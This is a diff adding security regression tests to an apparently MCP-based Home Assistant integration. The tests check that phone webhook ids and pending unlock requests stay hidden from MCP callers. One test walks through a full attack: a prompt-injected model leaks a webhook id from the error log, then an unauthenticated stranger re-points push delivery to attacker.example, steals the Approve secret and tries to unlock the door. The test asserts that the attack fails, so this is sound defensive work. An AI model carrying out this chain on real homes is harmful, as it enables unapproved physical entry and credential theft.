@@ -541,3 +541,198 @@ async def test_a_phone_registered_under_the_administrator_s_device_id_gets_nothi
     await mcp.data("call_service", {**UNLOCK, "target": {"entity_id": "lock.openable_lock"}})
     await hass.async_block_till_done()
     assert phones.sent(twin) == []
+
+
+async def test_a_local_push_phone_s_webhook_id_is_never_written_to_the_error_log(
+    mcp: McpHarness,
+    phones: Phones,
+    hass: HomeAssistant,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    """A webhook id is a bearer secret: whoever holds it acts as the phone's user.
+
+    Path: a companion app registered for local push only (`app_data`:
+    `push_websocket_channel`, no `push_url`, as the Android minimal app and
+    an iPhone on the home Wi-Fi register) is away from home, so its push
+    channel is not connected. `phone._async_push` -> `_async_send` ->
+    `MobileAppNotificationService.async_send_message` raises
+    `HomeAssistantError("Device(s) with webhook id(s) <id> not connected to
+    local push notifications")`, and `_async_send` logs `str(err)` at warning
+    level. The `system_log` keeps it; an MCP caller with the administrator's
+    own credential reads it with `get_error_log`; with the webhook id,
+    anyone who can reach `/api/webhook/<id>` (no login) calls any service as
+    the administrator (`call_service` webhook command: unlock the door
+    without any approval) or fires the tap with the right path and user,
+    or re-points the phone's `push_url` (`update_registration`) to receive
+    every later push, secrets included.
+    """
+    assert await async_setup_component(hass, "system_log", {})
+    caplog.set_level(logging.WARNING)
+    registration = _registration("Alice Pixel", "alice-pixel", apple=False)
+    registration["app_data"] = {"push_websocket_channel": True}
+    webhook_id = await _register(phones.admin_client, registration)
+    await hass.async_block_till_done()
+    refused = await mcp.data("call_service", UNLOCK)
+    assert refused["error"] == "needs_confirmation"
+    await hass.async_block_till_done()
+    log = await mcp.data("get_error_log", {"text": "could not reach"})
+    assert webhook_id not in json.dumps(log), log
+    assert webhook_id not in caplog.text
+
+
+ANNOUNCE = {
+    "id": "announce_requests",
+    "alias": "Announce Home MCP requests",
+    "triggers": [{"trigger": "state", "entity_id": "event.home_mcp_approval_requests"}],
+    "conditions": [
+        {
+            "condition": "state",
+            "entity_id": "event.home_mcp_approval_requests",
+            "attribute": "event_type",
+            "state": "requested",
+        }
+    ],
+    "actions": [
+        {
+            "action": "persistent_notification.create",
+            "data": {
+                "message": "Home MCP asks to {{ trigger.to_state.attributes.effect }} "
+                "for {{ trigger.to_state.attributes.asked_by }} "
+                "({{ trigger.to_state.attributes.client }}). Approve it on your phone."
+            },
+        }
+    ],
+}
+"""docs/approvals.md's "Announce it on a speaker", on a service every house has."""
+
+
+async def test_a_config_key_cannot_read_a_request_s_effect_through_the_trace_of_the_docs_automation(
+    mcp: McpHarness, hass: HomeAssistant, home_mcp: MockConfigEntry
+) -> None:
+    """Home MCP's own entities are left out of every MCP read, like the audit: get_trace too.
+
+    Path: the owner adds the docs' automation on
+    `event.home_mcp_approval_requests` (docs/approvals.md, "Announce it on a
+    speaker"). Another credential's request fires it. Home Assistant's
+    trace keeps the run: the trigger's `to_state` (hidden by `get_trace`'s
+    `_compact`, which names it UNSEEN) and the action's rendered
+    `service_data` (`result.params`), which carries the entity's
+    attributes verbatim: the effect, who asked and the client. A `config`
+    key (an automation builder, not the requester) reads it with
+    `get_trace`: the pending request of someone else, its effect and
+    requester, which `exposure.async_own_entities` meant to keep from every
+    MCP caller.
+    """
+    assert await async_setup_component(hass, "automation", {"automation": [ANNOUNCE]})
+    await hass.async_block_till_done()
+    refused = await mcp.data("call_service", UNLOCK)
+    assert refused["error"] == "needs_confirmation"
+    await hass.async_block_till_done()
+    _, builder = await home_mcp.runtime_data.keys.async_create("Automation builder", "config")
+    async with mcp.client(token=builder) as client:
+        listed = await client.call_tool(
+            "get_trace", {"entity_id": "automation.announce_home_mcp_requests"}
+        )
+        assert listed.structured_content is not None, listed
+        [run] = listed.structured_content["items"]
+        steps = await client.call_tool(
+            "get_trace",
+            {"entity_id": "automation.announce_home_mcp_requests", "run_id": run["run_id"]},
+        )
+    seen = json.dumps(steps.structured_content)
+    assert "unlock Front Door" not in seen and "Mock User" not in seen, seen
+
+
+ATTACKER_URL = "https://attacker.example/push"
+
+
+async def test_a_pending_request_is_not_approved_by_whoever_reads_the_error_log(
+    mcp: McpHarness,
+    phones: Phones,
+    hass: HomeAssistant,
+    hass_client_no_auth: Callable[..., Any],
+) -> None:
+    """The whole way from the logged webhook id to an approval no person gave.
+
+    Path (after the first test's leak): the prompt-injected model, on the
+    administrator's own MCP credential, reads the webhook id with
+    `get_error_log` and hands it out. Anyone on the network (no login:
+    `/api/webhook/<id>` is unauthenticated) sends that webhook's
+    `update_registration` with `app_data.push_url` of their own and
+    `manufacturer: "Apple"` (`async_phones` then sets `apple`, so the push
+    carries the Approve secret). The next guarded request is pushed to them
+    (`_async_push`: the registration's user is still the administrator);
+    they fire the Approve action through that same webhook: origin REMOTE,
+    the administrator's context, the phone's own webhook path: the lock opens.
+    """
+    import re  # noqa: PLC0415
+
+    assert await async_setup_component(hass, "system_log", {})
+    registration = _registration("Alice Pixel", "alice-pixel", apple=False)
+    registration["app_data"] = {"push_websocket_channel": True}
+    await _register(phones.admin_client, registration)
+    await hass.async_block_till_done()
+    await mcp.data("call_service", UNLOCK)
+    await hass.async_block_till_done()
+    log = json.dumps(await mcp.data("get_error_log", {"text": "webhook id"}))
+    leaked = re.findall(r"\b[0-9a-f]{64}\b", log)
+    if not leaked:
+        return  # Nothing to go on: the way is closed.
+    stranger = await hass_client_no_auth()
+    phones.pushes.post(ATTACKER_URL, json={})
+    response = await stranger.post(
+        f"/api/webhook/{leaked[0]}",
+        json={
+            "type": "update_registration",
+            "data": {
+                "app_data": {"push_url": ATTACKER_URL, "push_token": "stolen"},
+                "app_version": "2026.11",
+                "device_name": "Alice Pixel",
+                "manufacturer": "Apple",
+                "model": "Pixel",
+                "os_version": "16",
+            },
+        },
+    )
+    assert response.status == 200
+    await hass.async_block_till_done()
+    target = {**UNLOCK, "target": {"entity_id": "lock.openable_lock"}}
+    refused = await mcp.data("call_service", target)
+    assert refused["error"] == "needs_confirmation"
+    await hass.async_block_till_done()
+    stolen = [
+        call[2]
+        for call in phones.pushes.mock_calls
+        if str(call[1]) == ATTACKER_URL and call[2]["message"] != "clear_notification"
+    ]
+    approve = _actions(stolen[-1])["Approve"]["action"]
+    response = await stranger.post(
+        f"/api/webhook/{leaked[0]}",
+        json={"type": "fire_event", "data": {"event_type": TAP, "event_data": {"action": approve}}},
+    )
+    assert response.status == 200
+    await hass.async_block_till_done()
+    assert hass.states.get("lock.openable_lock").state == "locked"
+    assert _state(hass, refused["confirmation_id"]) == "pending"
+
+
+async def test_the_error_log_never_shows_a_phone_s_webhook_id_whoever_logged_it(
+    mcp: McpHarness, phones: Phones, hass: HomeAssistant
+) -> None:
+    """A registered phone's webhook id, logged by any integration, is hidden in `get_error_log`.
+
+    It acts as the phone's user without a login; not shown, and not found a
+    letter at a time through the `text` filter either.
+    """
+    assert await async_setup_component(hass, "system_log", {})
+    webhook_id = await _register(phones.admin_client, _registration("Alice", "alice-phone"))
+    logging.getLogger("homeassistant.components.somewhere").warning(
+        "Could not deliver to webhook %s", webhook_id
+    )
+    await hass.async_block_till_done()
+    shown = await mcp.data("get_error_log", {"text": "could not deliver"})
+    assert shown["items"], shown
+    assert webhook_id not in json.dumps(shown)
+    assert "<a phone's webhook>" in shown["items"][0]["message"]
+    probed = await mcp.data("get_error_log", {"text": webhook_id[:12]})
+    assert probed["items"] == [], probed
